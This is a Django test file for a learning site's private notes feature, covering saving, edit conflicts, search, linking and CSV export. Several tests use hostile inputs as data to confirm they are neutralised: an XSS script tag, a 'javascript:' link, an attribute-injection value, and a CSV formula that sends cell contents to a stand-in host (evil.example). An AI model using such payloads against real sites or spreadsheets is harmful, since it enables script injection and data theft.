"""Notes on the learner pages: the form on a resource's page, the Notes page, the CSV column."""

from __future__ import annotations

import csv
import io
import re
from datetime import timedelta
from html import unescape

import pytest
from django.utils import timezone

from catalog.models import Resource, Status
from recommender import queue, services
from recommender.models import NOTE_MAX_CHARS, Note, Progress
from tests.factories import ResourceFactory
from tests.learn.conftest import path_ids

pytestmark = pytest.mark.django_db

SCRIPT = "<script>alert(1)</script>"
ESCAPED = "&lt;script&gt;alert(1)&lt;/script&gt;"


@pytest.fixture
def resource(db):
    return ResourceFactory(title="RBAC, good practices")


def page(resource) -> str:
    return f"/resources/{resource.pk}/"


def save(client, resource, text: str, *, based_on: str | None = None, **extra):
    data = {"text": text} if based_on is None else {"text": text, "based_on": based_on}
    return client.post(f"/resources/{resource.pk}/note/", data, **extra)


def note_written(user, resource, text: str, *, minutes_ago: int = 0) -> Note:
    note, _ = services.note_set(user=user, resource=resource, text=text)
    assert note is not None
    # updated_at is auto_now: set the order the test wants with an update.
    Note.objects.filter(pk=note.pk).update(
        updated_at=timezone.now() - timedelta(minutes=minutes_ago)
    )
    return note


def messages_of(response) -> list[str]:
    return [str(message) for message in response.context["messages"]]


# --- The resource page ---------------------------------------------------------------------


def test_the_resource_page_offers_a_labelled_note_box_to_learners_only(client, alice_web, resource):
    body = alice_web.get(page(resource)).content.decode()
    assert '<label for="id_text">Your notes</label>' in body
    # Counted by the page, not cut by the browser: maxlength cut a longer paste without a word.
    assert (
        f'data-max-chars="{NOTE_MAX_CHARS}"' in body
        and "maxlength" not in body.split("<textarea")[1]
    )
    assert f'action="/resources/{resource.pk}/note/#notes"' in body
    assert "id_text" not in client.get(page(resource)).content.decode()


def test_the_resource_page_with_a_note_is_never_cached(alice, alice_web, resource):
    note_written(alice, resource, "private")
    assert "no-store" in alice_web.get(page(resource))["Cache-Control"]


def test_saving_a_note_stores_it_and_says_so(alice, alice_web, resource):
    response = save(alice_web, resource, "  kubectl auth can-i --list\r\n  ", follow=True)
    assert response.redirect_chain == [(page(resource) + "#notes", 302)]
    assert messages_of(response) == ["Note saved."]
    assert Note.objects.get(user=alice).text == "  kubectl auth can-i --list"  # indent kept
    body = response.content.decode()
    assert "  kubectl auth can-i --list</textarea>" in body
    assert "Last saved <time" in body


def test_emptying_the_note_removes_it_and_says_so(alice, alice_web, resource):
    note_written(alice, resource, "to be removed")
    response = save(alice_web, resource, "   ", follow=True)
    assert messages_of(response) == ["Note removed."]
    assert not Note.objects.exists()
    assert "Last saved" not in response.content.decode()


def test_saving_an_empty_note_where_there_was_none_says_nothing_was_saved(alice_web, resource):
    response = save(alice_web, resource, "", follow=True)
    assert messages_of(response) == ["Nothing saved: the note was empty."]
    assert not Note.objects.exists()


def test_a_note_at_the_limit_with_browser_line_breaks_is_accepted(alice, alice_web, resource):
    # The page counts a line break as one character; the browser sends two.
    text = ("x" * 99 + "\r\n") * (NOTE_MAX_CHARS // 100)
    assert save(alice_web, resource, text).status_code == 302
    assert len(Note.objects.get().text) == NOTE_MAX_CHARS - 1  # the last line break is trimmed


def test_a_note_over_the_limit_is_refused_clearly_and_nothing_is_stored(alice, alice_web, resource):
    note_written(alice, resource, "kept")
    too_long = "y" * (NOTE_MAX_CHARS + 1)
    response = save(alice_web, resource, too_long)
    assert response.status_code == 400
    body = response.content.decode()
    assert "A note can be at most 10,000 characters long; this one has 10,001." in body
    assert f">\n{too_long}</textarea>" in body  # the text is not lost
    assert Note.objects.get().text == "kept"


def loaded_version(user, resource) -> str:
    """The based_on a page opened now carries: the note as saved at this moment."""
    note = Note.objects.filter(user=user, resource=resource).first()
    return services.note_version(note.text if note else "")


def based_on_in(body: str) -> str:
    match = re.search(r'<input type="hidden" name="based_on"(?: value="([0-9a-f]+)")?', body)
    assert match, "the note form carries the version it was loaded with"
    return match.group(1) or ""  # no note yet: an empty value


def test_the_note_form_carries_the_version_of_the_note_it_shows(alice, alice_web, resource):
    assert based_on_in(alice_web.get(page(resource)).content.decode()) == ""
    note_written(alice, resource, "v1")
    body = alice_web.get(page(resource)).content.decode()
    assert based_on_in(body) == services.note_version("v1") != ""


def test_saving_over_a_note_another_tab_changed_since_is_refused_with_both_texts(
    alice, alice_web, resource
):
    note_written(alice, resource, "first words")
    opened = loaded_version(alice, resource)
    note_written(alice, resource, "saved in the other tab")
    response = save(alice_web, resource, "typed here", based_on=opened)
    assert response.status_code == 409
    body = response.content.decode()
    assert "changed in another tab or on another device" in body
    assert ">\ntyped here</textarea>" in body  # the typed text is not lost
    assert 'class="note-elsewhere"' in body and "saved in the other tab" in body
    assert Note.objects.get().text == "saved in the other tab"
    # The page is now based on the other tab's note: Save again replaces it, on purpose.
    assert based_on_in(body) == services.note_version("saved in the other tab")
    again = save(alice_web, resource, "typed here", based_on=based_on_in(body))
    assert again.status_code == 302
    assert Note.objects.get().text == "typed here"


def test_saving_over_a_note_another_tab_removed_is_refused_then_kept_on_saving_again(
    alice, alice_web, resource
):
    note_written(alice, resource, "soon gone")
    opened = loaded_version(alice, resource)
    services.note_delete(user=alice, resource_id=resource.pk)
    response = save(alice_web, resource, "soon gone, and more", based_on=opened)
    assert response.status_code == 409
    body = response.content.decode()
    assert "removed in another tab or on another device" in body
    assert 'class="note-elsewhere"' not in body
    assert not Note.objects.exists()
    assert save(alice_web, resource, "soon gone, and more", based_on="").status_code == 302
    assert Note.objects.get().text == "soon gone, and more"


def test_a_first_note_saved_after_another_tab_wrote_one_is_refused(alice, alice_web, resource):
    note_written(alice, resource, "the other tab's")
    assert save(alice_web, resource, "this tab's", based_on="").status_code == 409
    assert Note.objects.get().text == "the other tab's"


def test_saving_the_words_another_tab_saved_meanwhile_is_no_conflict(alice, alice_web, resource):
    opened = loaded_version(alice, resource)
    note_written(alice, resource, "same words")
    response = save(alice_web, resource, "same words\r\n ", based_on=opened, follow=True)
    assert messages_of(response) == ["Note saved."]


def test_emptying_a_note_another_tab_changed_since_is_refused(alice, alice_web, resource):
    note_written(alice, resource, "v1")
    opened = loaded_version(alice, resource)
    note_written(alice, resource, "v2")
    assert save(alice_web, resource, "", based_on=opened).status_code == 409
    assert Note.objects.get().text == "v2"


def test_a_mangled_version_of_the_note_is_a_409_with_the_saved_note(alice, alice_web, resource):
    # A sweep's 65-character `based_on` was a 400 with no word why nothing was saved.
    note_written(alice, resource, "saved elsewhere")
    response = save(alice_web, resource, "typed here", based_on="z" * 65)
    assert response.status_code == 409
    assert "Not saved: this note was changed in another tab" in response.content.decode()
    assert Note.objects.get().text == "saved elsewhere"


def test_a_note_with_a_nul_character_is_a_400_not_a_server_error(alice_web, resource):
    assert save(alice_web, resource, "a\x00b").status_code == 400
    assert not Note.objects.exists()


def test_a_refused_nul_comes_back_taken_out_and_said_so(alice, alice_web, resource):
    # The box showed each NUL as "�", and a second Save stored those without a word.
    response = save(alice_web, resource, "abc \x00NUL\x00 end")
    assert response.status_code == 400
    assert response.context["note_form"]["text"].value() == "abc NUL end"
    body = unescape(response.content.decode())
    assert "Null characters are not allowed: they were taken out of the text below." in body
    assert "\x00" not in body
    assert not Note.objects.filter(user=alice).exists()
    assert save(alice_web, resource, "abc NUL end").status_code == 302
    assert Note.objects.get(user=alice).text == "abc NUL end"


def test_a_script_in_a_note_is_shown_as_text_on_the_resource_page(alice, alice_web, resource):
    note_written(alice, resource, SCRIPT)
    body = alice_web.get(page(resource)).content.decode()
    assert SCRIPT not in body
    assert f">\n{ESCAPED}</textarea>" in body


def test_a_note_changes_no_progress_and_clear_keeps_the_note(alice, alice_web, resource):
    save(alice_web, resource, "my note")
    assert not Progress.objects.exists()
    alice_web.post(f"/progress/{resource.pk}/", {"state": "completed"})
    alice_web.post(f"/progress/{resource.pk}/forget/")
    assert not Progress.objects.exists()
    assert Note.objects.get().text == "my note"


def test_another_learner_never_sees_or_changes_your_note(alice, bob_web, resource):
    note_written(alice, resource, "alice's secret")
    assert "secret" not in bob_web.get(page(resource)).content.decode()
    assert "secret" not in bob_web.get("/notes/").content.decode()
    save(bob_web, resource, "")  # bob empties *his* note: alice's stays
    save(bob_web, resource, "bob's own")
    assert dict(Note.objects.values_list("user__username", "text")) == {
        "alice": "alice's secret",
        "bob": "bob's own",
    }


def test_notes_on_hidden_or_unknown_resources_are_404(alice_web):
    pending = ResourceFactory(status=Status.PENDING)
    assert save(alice_web, pending, "x").status_code == 404
    assert alice_web.post("/resources/999999/note/", {"text": "x"}).status_code == 404
    assert not Note.objects.exists()


def test_saving_a_note_signed_out_goes_to_sign_in_and_stores_nothing(client, resource):
    response = save(client, resource, "x", HTTP_REFERER=page(resource))
    assert response.status_code == 302
    assert response["Location"].startswith("/signin/")
    assert not Note.objects.exists()


def test_a_note_cannot_be_read_with_get(alice_web, resource):
    assert alice_web.get(f"/resources/{resource.pk}/note/").status_code == 405


# --- The Notes page ------------------------------------------------------------------------


def test_the_notes_page_lists_the_learners_notes_newest_first_with_links(alice, alice_web):
    older, newer = ResourceFactory(title="Older"), ResourceFactory(title="Newer")
    note_written(alice, older, "first line\nsecond line", minutes_ago=10)
    note_written(alice, newer, "recent", minutes_ago=1)
    response = alice_web.get("/notes/")
    assert response.status_code == 200
    assert [note.resource.title for note in response.context["notes"]] == ["Newer", "Older"]
    body = response.content.decode()
    assert f'href="/resources/{older.pk}/">Older</a>' in body
    # Shown pre-wrap; each line in its own direction.
    assert '<div dir="auto" class="note-text">first line\nsecond line</div>' in body


def test_a_script_in_a_note_is_shown_as_text_on_the_notes_page(alice, alice_web, resource):
    note_written(alice, resource, f"{SCRIPT}\nnext line")
    body = alice_web.get("/notes/").content.decode()
    assert SCRIPT not in body
    assert f"{ESCAPED}\nnext line" in body


def test_the_notes_page_shows_twenty_a_page_and_an_odd_page_shows_the_nearest(alice, alice_web):
    for n in range(23):
        note_written(alice, ResourceFactory(), f"note {n}", minutes_ago=n)
    assert len(alice_web.get("/notes/").context["notes"]) == 20
    second = alice_web.get("/notes/", {"page": 2})
    assert [note.text for note in second.context["notes"]] == ["note 20", "note 21", "note 22"]
    assert 'href="?page=2"' in alice_web.get("/notes/").content.decode()
    assert alice_web.get("/notes/", {"page": 9}).context["page"].number == 2


@pytest.mark.parametrize("number", ["0", "-1"])
def test_the_notes_page_shows_the_first_page_for_a_page_number_below_one(alice, alice_web, number):
    for n in range(23):
        note_written(alice, ResourceFactory(), f"note {n}", minutes_ago=n)
    assert alice_web.get("/notes/", {"page": number}).context["page"].number == 1


def test_the_notes_page_keeps_a_note_on_a_withdrawn_resource_and_says_why_it_has_no_page(
    alice, alice_web
):
    # A walk-through's learner read "No notes yet." once a curator rejected the resource of
    # their only note; it came back when the resource was approved again.
    withdrawn = ResourceFactory(title="Withdrawn", status=Status.REJECTED)
    note_written(alice, withdrawn, "kubectl get netpol")
    response = alice_web.get("/notes/")
    assert [note.resource_id for note in response.context["notes"]] == [withdrawn.pk]
    page = response.content.decode()
    assert "No notes yet." not in page and "kubectl get netpol" in page
    assert "Withdrawn from the catalog by its curators, so it has no page now" in page
    assert f'href="/resources/{withdrawn.pk}/"' not in page
    assert "Your notes (1)" in alice_web.get("/history/").content.decode()
    assert alice_web.get("/notes/", {"q": "netpol"}).context["notes"]


def test_searching_the_notes_keeps_those_whose_text_or_title_mentions_it(alice, alice_web):
    note_written(alice, ResourceFactory(title="Pod security"), "Try KUBECTL auth can-i")
    note_written(alice, ResourceFactory(title="kubectl tricks"), "aliases")
    note_written(alice, ResourceFactory(title="Helm"), "charts")
    response = alice_web.get("/notes/", {"q": "  kubectl  "})
    assert [note.resource.title for note in response.context["notes"]] == [
        "kubectl tricks",
        "Pod security",
    ]
    body = response.content.decode()
    assert "2 notes mention “kubectl”" in body
    assert "Try <mark>KUBECTL</mark> auth can-i" in body
    assert "<mark>kubectl</mark> tricks</a>" in body
    assert 'value="kubectl"' in body  # the search box keeps it


@pytest.mark.parametrize("query", ["ünï", "ÜNÏ", "éviction", "ÉVICTION", "ßtraße"])
def test_searching_the_notes_ignores_the_case_of_any_letter_not_only_ascii(alice, alice_web, query):
    # SQLite's LIKE folds ASCII only: "ünï" did not find "Ünï" under `make run` (walk-through).
    note_written(alice, ResourceFactory(title="Éviction"), "Ünïcødé notes, ßtraße")
    response = alice_web.get("/notes/", {"q": query})
    assert len(response.context["notes"]) == 1, query


def test_a_note_pasted_with_separate_accent_marks_is_found_by_the_letters_typed(alice, alice_web):
    # "géré" pasted as "ge" + U+0301 + "re" + U+0301 (from a PDF) was not found by "géré", nor
    # the other way round (walk-through).
    services.note_set(user=alice, resource=ResourceFactory(), text="Chiffrement ge\u0301re\u0301")
    assert Note.objects.get().text == "Chiffrement géré"
    for query in ("géré", "GE\u0301RE\u0301"):
        page = alice_web.get("/notes/", {"q": query})
        assert len(page.context["notes"]) == 1, query
        assert "<mark>géré</mark>" in page.content.decode()


def test_a_search_of_the_notes_is_shown_escaped_and_matched_as_plain_text(alice, alice_web):
    note_written(alice, ResourceFactory(), f"{SCRIPT} and a.*b")
    body = alice_web.get("/notes/", {"q": "<script>"}).content.decode()
    assert SCRIPT not in body
    assert "<mark>&lt;script&gt;</mark>alert(1)" in body
    # A regular expression's characters are text: "a.*b" matches itself, not "and a".
    marked = alice_web.get("/notes/", {"q": "a.*b"}).content.decode()
    assert "and <mark>a.*b</mark>" in marked
    for query in ("(", "[a-", "\\", "a{2}", "^", "$", "x|", "?"):
        assert alice_web.get("/notes/", {"q": query}).status_code == 200, query


def test_the_notes_page_keeps_a_notes_indentation_with_or_without_a_search(alice, alice_web):
    note_written(alice, ResourceFactory(), "rules:\n  - verbs: [get]\n    resources: [pods]")
    for query in ({}, {"q": "verbs"}):
        body = alice_web.get("/notes/", query).content.decode()
        assert "\n  - " in body and "\n    resources: [pods]</div>" in body


def test_a_search_of_the_notes_with_no_match_says_so_and_leads_back(alice, alice_web, resource):
    note_written(alice, resource, "something")
    response = alice_web.get("/notes/", {"q": "nowhere"})
    body = response.content.decode()
    assert "None of your notes mentions “nowhere”." in body
    assert '<a href="/notes/">See all your notes</a>' in body
    assert 'href="/browse/?search=nowhere"' in body
    assert "No notes yet." not in body


def test_the_notes_search_pages_keep_the_search(alice, alice_web):
    for n in range(23):
        note_written(alice, ResourceFactory(), f"rbac note {n}", minutes_ago=n)
    body = alice_web.get("/notes/", {"q": "rbac"}).content.decode()
    assert 'href="?q=rbac&amp;page=2"' in body
    second = alice_web.get("/notes/", {"q": "rbac", "page": 2})
    assert len(second.context["notes"]) == 3


def test_the_notes_search_is_offered_only_to_a_learner_with_notes(alice, alice_web, resource):
    assert 'id="notes-q"' not in alice_web.get("/notes/").content.decode()
    note_written(alice, resource, "x")
    assert 'id="notes-q"' in alice_web.get("/notes/").content.decode()


def test_a_very_long_search_of_the_notes_is_cut_not_refused(alice, alice_web, resource):
    note_written(alice, resource, "y" * 300)
    response = alice_web.get("/notes/", {"q": "y" * 5000})
    assert response.status_code == 200
    assert len(response.context["search"]) == 200
    assert len(response.context["notes"]) == 1


def test_the_notes_page_needs_sign_in(client):
    response = client.get("/notes/")
    assert response.status_code == 302
    assert response["Location"].startswith("/signin/")


def test_history_links_the_notes_with_their_count(alice, alice_web, resource):
    note_written(alice, resource, "x")
    body = alice_web.get("/history/").content.decode()
    assert '<a href="/notes/">Your notes (1)</a>' in body


def test_the_main_menu_does_not_link_the_notes(alice_web):
    nav = alice_web.get("/").content.decode().split('class="main-nav"')[1].split("</nav>")[0]
    assert "/notes/" not in nav


# --- Notes on the cards ----------------------------------------------------------------------


def card_of(body: str, resource) -> str:
    start = body.index(f'id="card-{resource.pk}-title"')
    return body[start : body.index("</article>", start)]


def note_snippet(card: str) -> str:
    """What a card shows of the learner's note, after its "Your note" link."""
    return card.split('#notes">Your note', 1)[1].split("</a>: ", 1)[1].split("</p>")[0]


def test_a_queued_card_shows_the_start_of_the_learners_note_on_one_line(alice, alice_web):
    # A walk-through's learner saw her note on The Hard Way only on its page and on Notes.
    resource = ResourceFactory(title="Kubernetes The Hard Way")
    note_written(alice, resource, "Need a spare weekend.\n\nStart with " + "the CA " * 30)
    body = alice_web.get("/").content.decode()
    card = card_of(body, resource)
    # Its lines kept apart, not run together into one sentence.
    assert (
        # Named by its item too: a links list read "Your note" several times (a walk-through).
        f'<a href="/resources/{resource.pk}/#notes">Your note<span class="visually-hidden"> on '
        "Kubernetes The Hard Way</span></a>: Need a spare weekend. \u00b7 "
        "Start with the CA"
    ) in card
    snippet = note_snippet(card)
    assert len(snippet) <= 90 and snippet.endswith("\u2026")
    assert snippet[:-1].split()[-1] in ("the", "CA")  # cut at a word's end


@pytest.mark.parametrize(
    "character",
    [
        "\U0001f469\u200d\U0001f4bb",  # woman technologist: two emoji and a joiner
        "\U0001f1e9\U0001f1ea",  # a flag: two regional indicators
        "\U0001f44d\U0001f3fd",  # thumbs up with a skin tone
        "e\u0301\u0301",  # an e with two combining accents
    ],
)
def test_a_card_note_is_never_cut_inside_a_character(alice, alice_web, character):
    # One word with no space to cut at, whose 89th place falls inside the character.
    resource = ResourceFactory(title="Kubernetes The Hard Way")
    note_written(alice, resource, "x" * 88 + character + "y" * 20)
    card = card_of(alice_web.get("/").content.decode(), resource)
    snippet = note_snippet(card)
    assert snippet == "x" * 88 + "\u2026"


def test_history_and_browse_cards_show_the_note_escaped(alice, alice_web, resource):
    note_written(alice, resource, SCRIPT)
    alice_web.post(f"/progress/{resource.pk}/", {"state": "skipped"})
    for url in ("/history/", "/browse/"):
        card = card_of(alice_web.get(url).content.decode(), resource)
        assert note_snippet(card) == ESCAPED, url


def test_a_card_never_shows_another_learners_note(alice, bob_web, resource):
    note_written(alice, resource, "alice's own words")
    assert "alice's own words" not in bob_web.get("/browse/").content.decode()
    assert '#notes">Your note' not in bob_web.get("/browse/").content.decode()


def test_similar_cards_on_a_resource_page_never_show_that_pages_note(alice, alice_web, seed):
    # The page's own note is in the template's context as "note": the similar cards below it
    # took it for theirs while the card's parameter had that name.
    first = Resource.objects.get(pk=path_ids(seed)[0])
    assert queue.resource_similar(resource_id=first.pk)
    note_written(alice, first, "only about this one")
    body = alice_web.get(page(first)).content.decode()
    assert "Your note</a>" not in body


# --- The CSV download ----------------------------------------------------------------------


def download(client) -> list[dict[str, str]]:
    body = client.get("/history/progress.csv").content.decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(body)))


def test_the_download_has_each_note_beside_its_progress_and_notes_without_progress(
    alice, bob, alice_web
):
    read, noted = ResourceFactory(title="Read"), ResourceFactory(title="Only noted")
    services.progress_set(user=alice, resource=read, state="completed", rating=4)
    note_written(alice, read, "line one\nline two")
    note_written(alice, noted, "just a note")
    note_written(bob, read, "bob's")
    rows = download(alice_web)
    assert [(r["title"], r["state"], r["note"]) for r in rows] == [
        ("Read", "Completed", "line one\nline two"),
        ("Only noted", "", "just a note"),
    ]
    assert [r["resource_id"] for r in rows] == [str(read.pk), str(noted.pk)]
    assert rows[1]["kubelearn_page"] == f"http://testserver/resources/{noted.pk}/"


def test_a_note_that_looks_like_a_formula_is_downloaded_as_text(alice, alice_web):
    # Beside progress and on its own: both kinds of row.
    formula = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
    read, noted = ResourceFactory(), ResourceFactory()
    services.progress_set(user=alice, resource=read, state="completed", rating=None)
    note_written(alice, read, formula)
    note_written(alice, noted, "+" + formula)
    assert [row["note"] for row in download(alice_web)] == ["'" + formula, "'+" + formula]


@pytest.mark.parametrize(
    ("query", "mark"),
    [("cafe", "café"), ("securite", "Sécurité"), ("STRASSE", "Straße"), ("naive", "naïve")],
)
def test_searching_the_notes_ignores_accents_and_marks_the_words_as_written(
    alice, alice_web, query, mark
):
    # Two walk-throughs: "cafe" did not find "café", nor "STRASSE" "Straße".
    note_written(alice, ResourceFactory(title="Notes"), "Sécurité: café, Straße, naïve ideas")
    response = alice_web.get("/notes/", {"q": query})
    assert len(response.context["notes"]) == 1, query
    assert f"<mark>{mark}</mark>" in response.content.decode()


def test_the_accent_blind_notes_search_still_leaves_out_other_words(alice, alice_web):
    note_written(alice, ResourceFactory(title="One"), "café au lait")
    note_written(alice, ResourceFactory(title="Two"), "caf e, cave, coffee")
    found = alice_web.get("/notes/", {"q": "CAFÉ"}).context["notes"]
    assert [note.resource.title for note in found] == ["One"]


def test_an_address_in_a_note_is_a_link_on_the_notes_page(alice, alice_web, resource):
    note_written(
        alice,
        resource,
        "See https://kubernetes.io/docs/reference/access-authn-authz/rbac/. Also (http://a.example/x).",
    )
    body = alice_web.get("/notes/").content.decode()
    address = "https://kubernetes.io/docs/reference/access-authn-authz/rbac/"
    assert f'<a href="{address}" rel="noopener noreferrer nofollow">{address}</a>. ' in body
    assert '(<a href="http://a.example/x" rel="noopener noreferrer nofollow">' in body


def test_a_note_links_only_web_addresses_and_escapes_the_rest(alice, alice_web, resource):
    note_written(alice, resource, f'javascript:alert(1) https://x.example/"onmouseover=1 {SCRIPT}')
    body = alice_web.get("/notes/").content.decode()
    assert 'href="javascript' not in body
    assert '<a href="https://x.example/" rel="noopener noreferrer nofollow">' in body
    assert ESCAPED in body and SCRIPT not in body


def test_a_search_marks_a_word_inside_a_linked_address(alice, alice_web, resource):
    note_written(alice, resource, "https://kubernetes.io/docs/rbac/")
    body = alice_web.get("/notes/?q=rbac").content.decode()
    assert (
        '<a href="https://kubernetes.io/docs/rbac/" rel="noopener noreferrer nofollow">'
        "https://kubernetes.io/docs/<mark>rbac</mark>/</a>" in body
    )


@pytest.mark.parametrize(
    ("text", "address"),
    [
        # Found by a walk-through: the quote, the ellipsis, the full stop and the backtick
        # after an address were taken into the link, and Wikipedia's brackets cut it short.
        ("“https://k8s.io/docs/”", "https://k8s.io/docs/"),
        ("see https://k8s.io/x… then", "https://k8s.io/x"),
        ("https://a.example/c。", "https://a.example/c"),
        ("`https://k8s.io/code`", "https://k8s.io/code"),
        (
            "https://en.wikipedia.org/wiki/Kubernetes_(software).",
            "https://en.wikipedia.org/wiki/Kubernetes_(software)",
        ),
        ("(see https://a.example/x)", "https://a.example/x"),
    ],
)
def test_a_notes_link_ends_where_its_address_does(alice, alice_web, resource, text, address):
    note_written(alice, resource, text)
    body = alice_web.get("/notes/").content.decode()
    assert f'<a href="{address}" rel="noopener noreferrer nofollow">{address}</a>' in body


def test_only_a_long_note_is_marked_for_folding_and_never_while_searching(alice, alice_web):
    from recommender.services import note_set
    from tests.factories import ResourceFactory

    note_set(user=alice, resource=ResourceFactory(), text="short and sweet")
    note_set(user=alice, resource=ResourceFactory(), text="kubectl " * 200)
    body = alice_web.get("/notes/").content.decode()
    assert body.count('class="note-text note-long"') == 1
    assert body.count("Show the whole note</button>") == 1
    searched = alice_web.get("/notes/", {"q": "kubectl"}).content.decode()
    assert "note-long" not in searched  # a match may be anywhere in it
